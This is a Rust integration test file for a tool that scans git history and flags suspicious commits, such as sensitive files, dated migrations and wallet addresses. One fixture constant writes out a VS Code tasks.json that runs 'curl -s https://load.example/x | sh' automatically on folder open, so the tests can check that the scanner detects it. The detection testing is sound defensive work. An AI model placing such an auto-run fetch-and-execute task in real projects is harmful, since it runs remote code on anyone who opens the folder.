//! What commits change, in real repositories.

use std::fs;
use std::path::Path;
use std::sync::atomic::AtomicBool;

use countersign_facts::content::Contents;
use countersign_facts::{AutoRun, Content, History, ObjectId, RepositoryIndex, What};
use countersign_history::{Job, Looked, Selection, Wants, look, read, sync};

use crate::fixture::Fixture;

const TASKS: &str = ".vscode/tasks.json";
const LOADS: &str = "{\n \"tasks\": [ {\n  \"command\": \"curl -s https://load.example/x | sh\",\n  \
                     \"runOptions\": { \"runOn\": \"folderOpen\" }\n } ]\n}\n";
const ADDRESS: &str = "3EktnHQD7RiAE6uzMj2ZifT9YgRrkSgzQX";

struct Seen {
    looked: Looked,
    history: History,
    contents: Contents,
}

impl Seen {
    fn of(path: &Path) -> Self {
        let cancelled = AtomicBool::new(false);
        let job = Job {
            threads: 2,
            cancelled: &cancelled,
            progress: &(),
        };
        let (mut history, mut contents) = (History::default(), Contents::default());
        read(path, "repo", &Selection::default(), &job, &mut history).unwrap();
        let place = (RepositoryIndex(0), &history);
        let is_wanted = |wallet: &countersign_facts::Wallet| wallet.as_str() == ADDRESS;
        let looked = look(path, "repo", place, Some(&is_wanted), &job, &mut contents).unwrap();
        Self {
            looked,
            history,
            contents,
        }
    }

    fn content(&mut self, id: &str) -> Option<&Content> {
        let bytes: Vec<_> = (0..id.len() / 2)
            .map(|at| u8::from_str_radix(&id[2 * at..2 * at + 2], 16).unwrap())
            .collect();
        let index = self
            .history
            .index_of(&ObjectId::from_bytes(&bytes).unwrap());
        self.contents.of(index)
    }

    fn kinds(&mut self, id: &str) -> Vec<What> {
        let content = self.content(id).expect("somebody looked");
        content.marks.iter().map(|mark| mark.what.clone()).collect()
    }
}

fn write(fixture: &Fixture, path: &str, text: impl AsRef<[u8]>) {
    let file = fixture.repo().join(path);
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(file, text).unwrap();
}

fn commit(fixture: &Fixture, message: &str) -> String {
    fixture.git(&["add", "--all"]);
    fixture.git(&["commit", "--quiet", "--allow-empty", "-m", message]);
    fixture.git(&["rev-parse", "HEAD"])
}

/// A file whose name says that it was made at 2024-05-01 12:34:56 UTC.
const MIGRATION: &str = "supabase/migrations/20240501123456_a.sql";

const LOADING: [What; 1] = [What::Runs(AutoRun::DisguisedFolderTask)];

#[test]
fn added_lines_are_seen_in_the_commit_that_adds_them() {
    for options in [&[][..], &["--object-format=sha256"]] {
        let fixture = Fixture::with_init(options);
        write(&fixture, "README.md", "one\n");
        let first = commit(&fixture, "first");
        write(&fixture, TASKS, LOADS);
        write(&fixture, ".github/CODEOWNERS", "* @adaex\n");
        write(&fixture, MIGRATION, "create table a;\n");
        let adds = commit(&fixture, "add");
        write(&fixture, TASKS, LOADS.replace(' ', "\t"));
        let indents = commit(&fixture, "indent");
        fs::create_dir_all(fixture.repo().join("web/.vscode")).unwrap();
        fixture.git(&["mv", TASKS, &format!("web/{TASKS}")]);
        let moves = commit(&fixture, "move");
        let pays = commit(&fixture, &format!("pay\n\nto {ADDRESS}"));
        fixture.git(&["gc", "--quiet"]);
        let mut seen = Seen::of(&fixture.repo());
        assert_eq!(seen.looked.commits, 5);
        assert_eq!(seen.kinds(&first), []);
        assert_eq!(seen.kinds(&adds), LOADING);
        assert_eq!(seen.kinds(&indents), []);
        assert_eq!(seen.kinds(&moves), []);
        let sensitive = &seen.content(&adds).unwrap().sensitive;
        assert_eq!(sensitive[..], [Box::from(&b".github/CODEOWNERS"[..])]);
        let [file] = &seen.content(&adds).unwrap().dated[..] else {
            panic!("one new file states a second");
        };
        assert_eq!(file.second, 1_714_566_896);
        assert!(seen.content(&moves).unwrap().dated.is_empty());
        let [mark] = &seen.content(&pays).unwrap().marks[..] else {
            panic!("one mark");
        };
        assert!(mark.path.is_empty() && mark.line == 3 && mark.excerpt.contains(ADDRESS));
    }
}

#[test]
fn merges_and_imports_are_nobodys_lines() {
    let fixture = Fixture::new();
    write(&fixture, TASKS, LOADS);
    (0..30).for_each(|number| write(&fixture, &format!("src/{number}.c"), "int a;\n"));
    let import = commit(&fixture, "import");
    fixture.git(&["checkout", "--quiet", "-b", "side"]);
    write(&fixture, "side", "side\n");
    commit(&fixture, "side");
    fixture.git(&["checkout", "--quiet", "main"]);
    commit(&fixture, "main");
    fixture.git(&["merge", "--quiet", "--no-ff", "-m", "merge", "side"]);
    let merge = fixture.git(&["rev-parse", "HEAD"]);
    let mut seen = Seen::of(&fixture.repo());
    assert_eq!((seen.looked.commits, seen.looked.imports), (2, 1));
    assert!(seen.content(&import).is_none() && seen.content(&merge).is_none());
}

#[test]
fn what_is_missing_or_large_is_said_and_stops_nothing() {
    let fixture = Fixture::new();
    write(&fixture, "a", "a\n");
    commit(&fixture, "first");
    write(&fixture, "src/large.js", "let a;\n".repeat(200_000));
    write(&fixture, "src/image.js", b"\0\x01\x02");
    let large = commit(&fixture, "large");
    write(&fixture, "src/lost.js", "let lost;\n");
    let lost = commit(&fixture, "lost");
    write(&fixture, TASKS, LOADS);
    let adds = commit(&fixture, "add");
    write(&fixture, "deep/b", "b\n");
    let torn = commit(&fixture, "torn");
    let blob = fixture.git(&["rev-parse", "HEAD:src/lost.js"]);
    let tree = fixture.git(&["rev-parse", "HEAD^{tree}"]);
    fs::remove_file(fixture.loose(&blob)).unwrap();
    fs::remove_file(fixture.loose(&tree)).unwrap();
    let mut seen = Seen::of(&fixture.repo());
    assert_eq!((seen.looked.commits, seen.looked.missing), (4, 1));
    assert_eq!(
        seen.looked.unseen_files, 2,
        "the large and the lost one, not the image"
    );
    assert_eq!(seen.looked.examples[0].0, torn);
    assert_eq!(seen.content(&large).unwrap().unseen, 1);
    assert_eq!(seen.content(&lost).unwrap().unseen, 1);
    assert_eq!(seen.kinds(&adds), LOADING);
    assert!(seen.content(&torn).is_none());
}

#[test]
fn files_are_fetched_on_request_only() {
    let fixture = Fixture::new();
    fixture.git(&["config", "uploadpack.allowFilter", "true"]);
    write(&fixture, "a", "a\n");
    commit(&fixture, "first");
    write(&fixture, TASKS, LOADS);
    let adds = commit(&fixture, "add");
    let cancelled = AtomicBool::new(false);
    let job = Job {
        threads: 1,
        cancelled: &cancelled,
        progress: &(),
    };
    let url = crate::remotes::url(&fixture.repo());
    let fetch = |files| {
        let wants = Wants {
            files,
            ..Wants::default()
        };
        sync(&url, &fixture.path("cache"), wants, &job).unwrap()
    };
    let (commits, files) = (fetch(false), fetch(true));
    assert!(commits.path != files.path && !files.is_filtered);
    let bare = Seen::of(&commits.path).looked;
    assert_eq!((bare.commits, bare.missing), (0, 2));
    assert_eq!(Seen::of(&files.path).kinds(&adds), LOADING);
    assert!(!fetch(true).is_new);
}
